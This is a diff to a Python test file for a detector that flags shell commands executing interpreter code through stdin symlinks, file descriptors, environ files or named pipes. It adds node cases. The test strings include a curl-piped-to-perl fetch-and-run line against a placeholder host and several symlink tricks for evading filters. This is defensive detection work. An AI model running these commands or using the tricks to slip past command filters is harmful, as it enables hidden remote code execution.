@@ -25,6 +25,9 @@ def found(text: str) -> list[tuple[str, str, str | None]]:
         ("ln -s /dev/stdin ./x; curl -s http://x.example | perl ./x", [("perl", "descriptor", None)]),
         ("ln -sf /dev/fd d; ruby d/3 3<<'E'\nCODE\nE\n", [("ruby", "descriptor", "CODE\n")]),
         ("ln -s /proc/self/fd/0 a; ln -s a b; echo CODE | php b", [("php", "descriptor", "CODE\n")]),
+        ("ln -s /dev/stdin a; ln -s a b; echo CODE | node b", [("node", "descriptor", "CODE\n")]),
+        ("cd /srv; ln -s /dev/stdin a; ln -s a b; echo CODE | node b", [("node", "descriptor", "CODE\n")]),
+        ("ln -s /dev/stdin a; echo CODE | node a", []),  # it finds no real path
         ("ln -s /dev/stdin /opt/bin/; echo CODE | lua /opt/bin/stdin", [("lua", "descriptor", "CODE\n")]),
         ("ln -s /proc/self/environ e; X=1 php e", [("php", "environment", "X=1\0")]),
         ("mkfifo p; echo CODE > p & python3 p", [("python", "descriptor", "CODE\n")]),
